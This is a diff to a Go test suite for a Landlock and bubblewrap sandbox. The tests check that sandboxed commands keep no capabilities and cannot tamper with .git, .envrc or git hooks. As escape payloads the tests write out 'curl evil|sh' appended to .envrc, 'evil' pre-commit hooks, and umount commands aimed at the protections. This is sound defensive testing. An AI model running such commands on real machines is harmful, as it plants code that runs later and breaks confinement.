@@ -10,7 +10,9 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -84,15 +86,39 @@ func mechanisms(t *testing.T) []string {
 	return out
 }
 
+// mechanismLandlockPlain is Landlock without the helper's namespaces, as
+// where user namespaces are disabled (a test-only mechanism name).
+const mechanismLandlockPlain = "landlock-plain"
+
+// withPlain adds the Landlock variant without namespaces when Landlock
+// works here.
+func withPlain(mechs []string) []string {
+	if slices.Contains(mechs, MechanismLandlock) {
+		return append(mechs, mechanismLandlockPlain)
+	}
+	return mechs
+}
+
 func newHost(t *testing.T, w world, mech string, network bool) *Host {
 	t.Helper()
-	h, err := New(Options{
+	o := Options{
 		Mechanism: mech, LaunchDir: w.ws, Home: w.home,
 		Hidden:       []string{filepath.Join(w.home, ".config", "nb")},
 		AllowNetwork: network,
-	})
+	}
+	if mech == mechanismLandlockPlain {
+		o.Mechanism, o.noNamespaces = MechanismLandlock, true
+	}
+	h, err := New(o)
 	if err != nil {
 		t.Fatal(err)
+	}
+	if mech == MechanismLandlock && !h.ns {
+		// Where user namespaces work the helper must use them.
+		if _, err := exec.Command("unshare", "-Ur", "true").CombinedOutput(); err == nil {
+			t.Fatalf("user namespaces work here but the Landlock helper does not use them: %v", h.nsErr)
+		}
+		t.Logf("landlock without namespaces: %v", h.nsErr)
 	}
 	t.Cleanup(func() { _ = h.Close() })
 	return h
@@ -119,11 +145,11 @@ func noFile(t *testing.T, p string) {
 }
 
 func TestEscapes(t *testing.T) {
-	for _, mech := range mechanisms(t) {
+	for _, mech := range withPlain(mechanisms(t)) {
 		t.Run(mech, func(t *testing.T) {
 			w := newWorld(t)
 			h := newHost(t, w, mech, false)
-			if h.Mechanism() != mech {
+			if h.Mechanism() != strings.TrimSuffix(mech, "-plain") {
 				t.Fatalf("mechanism %s, want %s", h.Mechanism(), mech)
 			}
 
@@ -135,9 +161,35 @@ func TestEscapes(t *testing.T) {
 				if b, _ := os.ReadFile(filepath.Join(w.ws, "sub", "made.txt")); string(b) != "made\n" {
 					t.Fatalf("write in workspace did not reach the disk: %q", b)
 				}
-				if mech == MechanismBwrap {
-					if _, errs, code := sh(t, h, w.ws, "echo top > top.txt && rm top.txt"); code != 0 {
-						t.Fatalf("cannot create in the workspace: %s", errs)
+				// The top of the workspace takes new entries, except
+				// under Landlock without namespaces (Describe says why).
+				_, errs, code = sh(t, h, w.ws, "echo top > top.txt && mkdir topdir && echo x > topdir/f && mv top.txt topdir/ && rm -r topdir")
+				if top := mech == MechanismBwrap || h.ns; top && code != 0 {
+					t.Fatalf("cannot create at the top of the workspace: %s", errs)
+				} else if !top {
+					if code == 0 {
+						t.Fatal("created at the top of the workspace under Landlock alone")
+					}
+					if d := h.Describe(); !strings.Contains(d, "cannot be created directly in the workspace") || !strings.Contains(d, "because") {
+						t.Errorf("Describe does not say why: %s", d)
+					}
+				}
+				// No capability is left to the command (the helper's
+				// CAP_SYS_ADMIN would let it unmount the protections).
+				// The bounding set only matters to root (a user cannot
+				// empty it, and then it grants nothing).
+				caps := "Inh|Prm|Eff|Amb"
+				if os.Getuid() == 0 {
+					caps += "|Bnd"
+				}
+				out, _, _ = sh(t, h, w.ws, "grep -E '^Cap("+caps+"):' /proc/self/status")
+				lines := strings.Split(strings.TrimSpace(out), "\n")
+				if len(lines) != strings.Count(caps, "|")+1 {
+					t.Errorf("capabilities: %q", out)
+				}
+				for _, line := range lines {
+					if !strings.HasSuffix(line, "\t0000000000000000") {
+						t.Errorf("capability left in the sandbox: %q", line)
 					}
 				}
 			})
@@ -396,7 +448,7 @@ func TestBwrapArgsOrder(t *testing.T) {
 		"--tmpfs " + w.home + "/.ssh",
 		"--bind " + w.ws + " " + w.ws,
 		"--ro-bind /E " + w.ws + "/.git",
-		"--setenv TMPDIR /tmp",
+		"--cap-drop ALL --setenv TMPDIR /tmp",
 	} {
 		if !strings.Contains(s, want) {
 			t.Errorf("args lack %q:\n%s", want, s)
@@ -566,9 +618,11 @@ func TestGitEscapeThenRealGitStatus(t *testing.T) {
 		}
 	})
 	payload := func(canary string) string {
-		return escapeSetup(canary) + "; " + strings.Join(append(append([]string{}, escapeExec...), escapeWrite...), "; ")
+		// Protections that are mounts must not come off first.
+		unmount := "umount -l .git/config; umount -l .git; umount -l inc.cfg; umount -l x/.git"
+		return escapeSetup(canary) + "; " + unmount + "; " + strings.Join(append(append([]string{}, escapeExec...), escapeWrite...), "; ")
 	}
-	for _, mech := range mechanisms(t) {
+	for _, mech := range withPlain(mechanisms(t)) {
 		t.Run(mech, func(t *testing.T) {
 			w, canary := escapeWorld(t)
 			h := newHost(t, w, mech, false)
@@ -612,7 +666,7 @@ func TestGitEscapeThenRealGitStatus(t *testing.T) {
 // Files that run outside the sandbox later are read-only inside it, and
 // the hidden list is the policy's secret list.
 func TestRunLaterReadOnlyAndSecretsHidden(t *testing.T) {
-	for _, mech := range mechanisms(t) {
+	for _, mech := range withPlain(mechanisms(t)) {
 		t.Run(mech, func(t *testing.T) {
 			w := newWorld(t)
 			mustWrite(t, filepath.Join(w.ws, ".envrc"), "export A=1\n")
@@ -627,6 +681,11 @@ func TestRunLaterReadOnlyAndSecretsHidden(t *testing.T) {
 			}
 			mustWrite(t, filepath.Join(w.home, ".config", "gh", "hosts.yml"), "oauth_token: SECRET-GH")
 			mustWrite(t, filepath.Join(w.home, ".vault-token"), "SECRET-VAULT")
+			// A protected entry that links elsewhere in the workspace.
+			mustWrite(t, filepath.Join(w.ws, "sub", "envrc.real"), "export B=1\n")
+			if err := os.Symlink("envrc.real", filepath.Join(w.ws, "sub", ".envrc")); err != nil {
+				t.Fatal(err)
+			}
 			h := newHost(t, w, mech, false)
 			// Created after the host: protected from the next run on.
 			if err := os.MkdirAll(filepath.Join(w.ws, "sub", ".husky"), 0o755); err != nil {
@@ -636,7 +695,10 @@ func TestRunLaterReadOnlyAndSecretsHidden(t *testing.T) {
 				t.Fatal(err)
 			}
 			sh(t, h, w.ws, "echo 'curl evil|sh' >> .envrc; echo '{\"x\":1}' > .vscode/settings.json; echo t > .vscode/tasks.json; "+
-				"echo evil > sub/.husky/pre-commit; echo x > sub/lib/.git/config; rm -f .envrc; true")
+				"echo evil > sub/.husky/pre-commit; echo x > sub/lib/.git/config; rm -f .envrc; echo evil >> sub/.envrc; echo evil >> sub/envrc.real; true")
+			if b, _ := os.ReadFile(filepath.Join(w.ws, "sub", "envrc.real")); string(b) != "export B=1\n" {
+				t.Errorf("the target of a protected link was written: %q", b)
+			}
 			if b, _ := os.ReadFile(filepath.Join(w.ws, ".envrc")); string(b) != "export A=1\n" {
 				t.Errorf(".envrc: %q", b)
 			}
@@ -679,4 +741,88 @@ func TestLayoutHidesSecretList(t *testing.T) {
 			t.Errorf("%s not hidden", want)
 		}
 	}
+}
+
+// Where user namespaces are refused (run inside bubblewrap with
+// --disable-userns, as user.max_user_namespaces=0 does), the Landlock
+// sandbox still protects .git with Landlock alone, the top of the
+// workspace takes no new entries, and the description says why.
+func TestLandlockWithoutUserNamespaces(t *testing.T) {
+	if landlockCheck(false) != nil {
+		t.Skip("landlock is not usable here")
+	}
+	if os.Getenv("NB_TEST_NO_USERNS") == "" {
+		bw, err := findBwrap("")
+		if err != nil {
+			testenv.Missing(t, "bubblewrap is needed to refuse user namespaces: "+err.Error())
+		}
+		d := t.TempDir()
+		cmd := exec.Command(bw, "--unshare-user", "--disable-userns", "--die-with-parent", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--bind", d, d, "--bind", "/var/tmp", "/var/tmp",
+			"--", os.Args[0], "-test.run=^TestLandlockWithoutUserNamespaces$", "-test.v", "-test.count=1")
+		cmd.Env = append(os.Environ(), "NB_TEST_NO_USERNS=1", "TMPDIR="+d)
+		out, err := cmd.CombinedOutput()
+		if err != nil || !strings.Contains(string(out), "--- PASS: TestLandlockWithoutUserNamespaces") {
+			t.Fatalf("inner run: %v\n%s", err, out)
+		}
+		return
+	}
+	if err := exec.Command("unshare", "-U", "true").Run(); err == nil {
+		t.Fatal("user namespaces still work in the inner run")
+	}
+	w := newWorld(t)
+	h := newHost(t, w, MechanismLandlock, false)
+	if h.ns {
+		t.Fatal("the helper claims namespaces where they are refused")
+	}
+	t.Log(h.Describe())
+	if d := h.Describe(); !strings.Contains(d, "user namespaces are not available") || !strings.Contains(d, "cannot be created directly in the workspace") {
+		t.Errorf("Describe does not say why the top is not writable: %s", d)
+	}
+	if _, _, code := sh(t, h, w.ws, "echo x > top.txt"); code == 0 {
+		t.Error("created at the top of the workspace under Landlock alone")
+	}
+	if _, errs, code := sh(t, h, w.ws, "echo x > sub/f && cat sub/f"); code != 0 {
+		t.Errorf("sub/ not writable: %s", errs)
+	}
+	sh(t, h, w.ws, "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
+	noFile(t, filepath.Join(w.ws, ".git"))
+}
+
+// When the helper cannot bind a protected path (here one reached through a
+// symlink swapped in after the layout was computed), it falls back to
+// Landlock alone for that command: the top of the workspace takes no new
+// entries, and stderr says so.
+func TestLandlockMountFailureFallsBack(t *testing.T) {
+	if landlockCheck(false) != nil {
+		t.Skip("landlock is not usable here")
+	}
+	w := newWorld(t)
+	h := newHost(t, w, MechanismLandlock, false)
+	if !h.ns {
+		t.Skipf("no user namespaces here: %v", h.nsErr)
+	}
+	if err := os.MkdirAll(filepath.Join(w.ws, "real"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	mustWrite(t, filepath.Join(w.ws, "real", ".envrc"), "export A=1\n")
+	if err := os.Symlink("real", filepath.Join(w.ws, "lnk")); err != nil {
+		t.Fatal(err)
+	}
+	spec := helperSpec{Writable: []string{w.ws}, ReadOnly: []string{filepath.Join(w.ws, ".git"), filepath.Join(w.ws, "lnk", ".envrc")}, Mounts: true}
+	argv, err := helperArgv(os.Args[0], spec, []string{"/bin/sh", "-c", "echo x > top.txt"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(argv[0], argv[1:]...)
+	cmd.Dir = w.ws
+	cmd.SysProcAttr = &syscall.SysProcAttr{}
+	nsProcAttr(cmd.SysProcAttr)
+	out, err := cmd.CombinedOutput()
+	if err == nil {
+		t.Errorf("created at the top although a protection could not be mounted: %s", out)
+	}
+	if !strings.Contains(string(out), "it moved") || !strings.Contains(string(out), "cannot be created at the top") {
+		t.Errorf("stderr does not say why: %s", out)
+	}
+	noFile(t, filepath.Join(w.ws, "top.txt"))
 }
